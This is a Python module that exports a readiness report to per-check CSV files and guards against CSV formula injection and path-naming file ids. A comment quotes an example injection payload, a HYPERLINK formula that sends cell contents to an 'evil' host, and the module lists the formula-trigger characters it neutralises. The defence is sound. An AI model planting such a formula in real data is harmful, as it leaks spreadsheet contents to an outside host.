"""The readiness report as CSV: one file per check, every object it found, for a spreadsheet or a script."""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import Any

__all__ = ["HEADER", "write_csv"]

HEADER = ("id", "name", "kind", "detail")
# A spreadsheet runs a cell that starts with one of these as a formula (or, after a tab or CR, may); object
# names come from the directory, so a group named `=HYPERLINK("http://evil/?"&A1)` would run on the admin's
# machine. A leading apostrophe makes the cell text (OWASP "CSV injection"); it is visible, which is the price.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The check id becomes a file name; a stored document is re-exported too, so it must not name a path.
SAFE_ID = re.compile(r"[a-z0-9][a-z0-9-]*")


def write_csv(document: dict[str, Any], directory: Path) -> list[Path]:
    """Write `{check id}.csv` for every check of the document into `directory` (created); the paths, in check order."""
    directory.mkdir(parents=True, exist_ok=True)
    written = []
    for check in document["checks"]:
        check_id = str(check["id"])
        if not SAFE_ID.fullmatch(check_id):
            raise ValueError(f"check id {check_id!r} cannot be a file name")
        path = directory / f"{check_id}.csv"
        # utf-8-sig: the byte order mark is how Excel knows the file is UTF-8 rather than the local code page.
        with path.open("w", encoding="utf-8-sig", newline="") as file:
            writer = csv.writer(file)
            writer.writerow(HEADER)
            writer.writerows([_cell(finding[column]) for column in HEADER] for finding in check["objects"])
        written.append(path)
    return written


def _cell(value: object) -> str:
    """The value as CSV cell text that a spreadsheet shows rather than runs."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text
